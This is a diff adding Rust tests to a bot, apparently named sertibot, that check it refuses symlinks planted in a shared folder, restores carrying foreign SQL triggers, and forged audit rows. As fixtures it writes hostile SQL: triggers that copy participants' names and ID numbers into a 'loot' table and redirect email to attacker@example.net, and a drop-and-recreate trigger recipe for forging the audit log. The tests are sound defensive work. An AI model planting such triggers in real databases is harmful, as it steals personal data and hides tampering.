@@ -1373,6 +1373,29 @@ fn batch_documents_writes_what_a_batch_has_and_check_refuses_a_broken_template()
     );
 }
 
+#[test]
+fn simulate_refuses_a_link_planted_in_its_folder_and_leaves_the_folders_mode() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::tempdir().unwrap();
+    let shared = dir.path().join("bersama");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let victim = dir.path().join("victim.conf");
+    std::fs::write(&victim, "secret = 1\n").unwrap();
+    std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
+    std::os::unix::fs::symlink(&victim, shared.join("batch-1-undangan.pdf")).unwrap();
+    let out = sertibot(
+        dir.path(),
+        &["simulate", "--participants", "1", "--bk", "0", "--out", "bersama"],
+    );
+    assert!(!out.status.success());
+    assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "secret = 1\n");
+    assert_eq!(mode(&victim), 0o644);
+    let folder = std::fs::metadata(&shared).unwrap().permissions().mode() & 0o7777;
+    assert_eq!(folder, 0o1777, "the folder keeps its sticky bit and mode");
+}
+
 /// A 2×2 PNG, for the letterhead's logo.
 const TINY_PNG: &[u8] = b"\x89\x50\x4e\x47\x0d\x0a\x1a\x0a\x00\x00\x00\x0d\x49\x48\x44\x52\x00\x00\x00\x02\x00\x00\x00\x02\x08\x02\x00\x00\x00\xfd\xd4\x9a\x73\x00\x00\x00\x0e\x49\x44\x41\x54\x78\x9c\x63\xf8\xcf\x00\x04\x30\x02\x00\x17\xf6\x02\xfe\x48\xe4\x2e\x07\x00\x00\x00\x00\x49\x45\x4e\x44\xae\x42\x60\x82";
 
@@ -1669,10 +1692,22 @@ fn tampered(dir: &Path, sql: &str) -> tempfile::TempDir {
         use sqlx::Connection;
         let url = format!("sqlite://{}", copy.path().join("sertibot.db").display());
         let mut conn = sqlx::SqliteConnection::connect(&url).await.unwrap();
+        // The protection dropped, the change made, and the protection put
+        // back as sertibot's migrations define it: what a careful forger does.
         let sql = format!(
             "DROP TRIGGER audit_log_append_only_update;
              DROP TRIGGER audit_log_append_only_delete;
-             {sql}"
+             {sql};
+             CREATE TRIGGER IF NOT EXISTS audit_log_append_only_update BEFORE UPDATE ON audit_log
+             WHEN OLD.hash IS NOT NULL
+                 OR OLD.id > (SELECT IFNULL(MAX(upto), 0) FROM audit_chain_legacy)
+             BEGIN
+                 SELECT RAISE(ABORT, 'the audit log is append-only');
+             END;
+             CREATE TRIGGER IF NOT EXISTS audit_log_append_only_delete BEFORE DELETE ON audit_log
+             BEGIN
+                 SELECT RAISE(ABORT, 'the audit log is append-only');
+             END;"
         );
         // A test's own fixed statements.
         sqlx::raw_sql(sqlx::AssertSqlSafe(sql))
@@ -1806,11 +1841,163 @@ fn audit_verify_names_the_row_edited_deleted_inserted_or_moved_in_the_file() {
         restored.contains("5 audit rows from a version before the audit chain"),
         "{restored}"
     );
+    // Verifying reads only: the rows are sealed by the next command that
+    // opens the database to work on it.
+    assert_eq!(
+        ok(sertibot(older.path(), &["audit", "verify"])),
+        "The audit log has 5 rows from a version before the audit chain; they are sealed when the service next opens the database.\n"
+    );
+    ok(sertibot(older.path(), &["batch", "list"]));
     assert_eq!(
         ok(sertibot(older.path(), &["audit", "verify"])),
         sound,
         "the same rows sealed the same way"
     );
+}
+
+/// A copy of `dir`'s config and database with `sql` run on it as it is.
+fn planted(dir: &Path, sql: &str) -> tempfile::TempDir {
+    let copy = tempfile::tempdir().unwrap();
+    for file in ["sertibot.toml", "sertibot.db"] {
+        std::fs::copy(dir.join(file), copy.path().join(file)).unwrap();
+    }
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    rt.block_on(async {
+        use sqlx::Connection;
+        let url = format!("sqlite://{}", copy.path().join("sertibot.db").display());
+        let mut conn = sqlx::SqliteConnection::connect(&url).await.unwrap();
+        sqlx::raw_sql(sqlx::AssertSqlSafe(sql.to_string()))
+            .execute(&mut conn)
+            .await
+            .unwrap();
+        conn.close().await.unwrap();
+    });
+    copy
+}
+
+#[test]
+fn a_backup_or_database_carrying_objects_sertibot_does_not_make_is_refused_by_name() {
+    let dir = prepared();
+    started_batch(dir.path());
+    let before = ok(sertibot(dir.path(), &["batch", "list"]));
+    // A backup that would copy each participant's NIK aside and send
+    // every email to its author once restored.
+    let hostile = planted(
+        dir.path(),
+        "CREATE TABLE loot (name TEXT, nik TEXT);
+         CREATE TRIGGER keep_a_copy AFTER INSERT ON participants
+         BEGIN INSERT INTO loot VALUES (NEW.name, NEW.nik); END;
+         CREATE TRIGGER redirect AFTER INSERT ON outbox WHEN NEW.channel = 'email'
+         BEGIN UPDATE outbox SET address = 'attacker@example.net' WHERE id = NEW.id; END;",
+    );
+    std::fs::copy(
+        hostile.path().join("sertibot.db"),
+        dir.path().join("kiriman.db"),
+    )
+    .unwrap();
+    let refused = one_sentence_failure(&sertibot(dir.path(), &["restore", "kiriman.db"]));
+    assert!(
+        refused.starts_with("kiriman.db is not a backup of sertibot's own database: it holds a ")
+            && refused.ends_with("Nothing was restored."),
+        "{refused}"
+    );
+    assert!(
+        ["table 'loot'", "trigger 'keep_a_copy'", "trigger 'redirect'"]
+            .iter()
+            .any(|named| refused.contains(named)),
+        "{refused}"
+    );
+    // Nothing changed: the same database, nothing kept aside.
+    assert_eq!(ok(sertibot(dir.path(), &["batch", "list"])), before);
+    let kept_aside = std::fs::read_dir(dir.path())
+        .unwrap()
+        .filter(|e| {
+            let name = e.as_ref().unwrap().file_name();
+            name.to_string_lossy().contains(".replaced-")
+        })
+        .count();
+    assert_eq!(kept_aside, 0);
+
+    // A changed definition of sertibot's own object is refused too.
+    let redefined = planted(
+        dir.path(),
+        "DROP TRIGGER telegram_queue_join;
+         CREATE TRIGGER telegram_queue_join AFTER INSERT ON outbox
+         BEGIN UPDATE outbox SET address = 'attacker@example.net'; END;",
+    );
+    std::fs::copy(
+        redefined.path().join("sertibot.db"),
+        dir.path().join("ubah.db"),
+    )
+    .unwrap();
+    let refused = one_sentence_failure(&sertibot(dir.path(), &["restore", "ubah.db"]));
+    assert!(
+        refused.contains("its trigger 'telegram_queue_join' is not defined as sertibot defines it"),
+        "{refused}"
+    );
+
+    // Found in place at start-up: nothing runs on it, the service included.
+    let in_place = one_sentence_failure(&sertibot(hostile.path(), &["batch", "list"]));
+    assert!(
+        in_place.contains("is not sertibot's own: it holds a "),
+        "{in_place}"
+    );
+    let service = sertibot_with(
+        hostile.path(),
+        &["run"],
+        &[
+            ("TELOXIDE_TOKEN", TOKEN),
+            ("TELOXIDE_API_URL", "http://127.0.0.1:9"),
+        ],
+    );
+    assert!(!service.status.success());
+    assert!(
+        stderr(&service).contains("is not sertibot's own"),
+        "{}",
+        stderr(&service)
+    );
+    let checked = sertibot(hostile.path(), &["check"]);
+    assert!(!checked.status.success());
+    assert!(
+        stdout(&checked).contains("The database is not as sertibot made it: it holds a "),
+        "{}",
+        stdout(&checked)
+    );
+}
+
+#[test]
+fn audit_verify_reads_only_and_reports_a_dropped_protection_or_a_planted_legacy_mark() {
+    let dir = prepared();
+    create_batch(dir.path());
+    // The protection dropped, nothing else changed.
+    let unprotected = planted(dir.path(), "DROP TRIGGER audit_log_append_only_delete");
+    let failure = one_sentence_failure(&sertibot(unprotected.path(), &["audit", "verify"]));
+    assert!(
+        failure.contains("its trigger 'audit_log_append_only_delete' is missing (the audit log's protection was dropped)"),
+        "{failure}"
+    );
+    let checked = sertibot(unprotected.path(), &["check"]);
+    assert!(!checked.status.success());
+    assert!(stdout(&checked).contains("audit_log_append_only_delete"));
+
+    // A planted legacy mark and a forged row without its seal: verify
+    // names the row and does not seal it, however often it runs, and
+    // neither does the next command that opens the database.
+    let laundered = tampered(
+        dir.path(),
+        "INSERT INTO audit_chain_legacy VALUES (1000);
+         UPDATE audit_log SET detail = '{\"forged\":true}', prev_hash = NULL, hash = NULL WHERE id = 3",
+    );
+    let db = laundered.path().join("sertibot.db");
+    let bytes_before = std::fs::read(&db).unwrap();
+    for _ in 0..2 {
+        let failure = one_sentence_failure(&sertibot(laundered.path(), &["audit", "verify"]));
+        assert!(failure.contains("The audit log is broken at row 3"), "{failure}");
+    }
+    assert!(std::fs::read(&db).unwrap() == bytes_before, "verify wrote to the database");
+    ok(sertibot(laundered.path(), &["batch", "list"]));
+    let failure = one_sentence_failure(&sertibot(laundered.path(), &["audit", "verify"]));
+    assert!(failure.contains("The audit log is broken at row 3"), "{failure}");
 }
 
 /// Waits up to 20 s for a log line containing `text`.
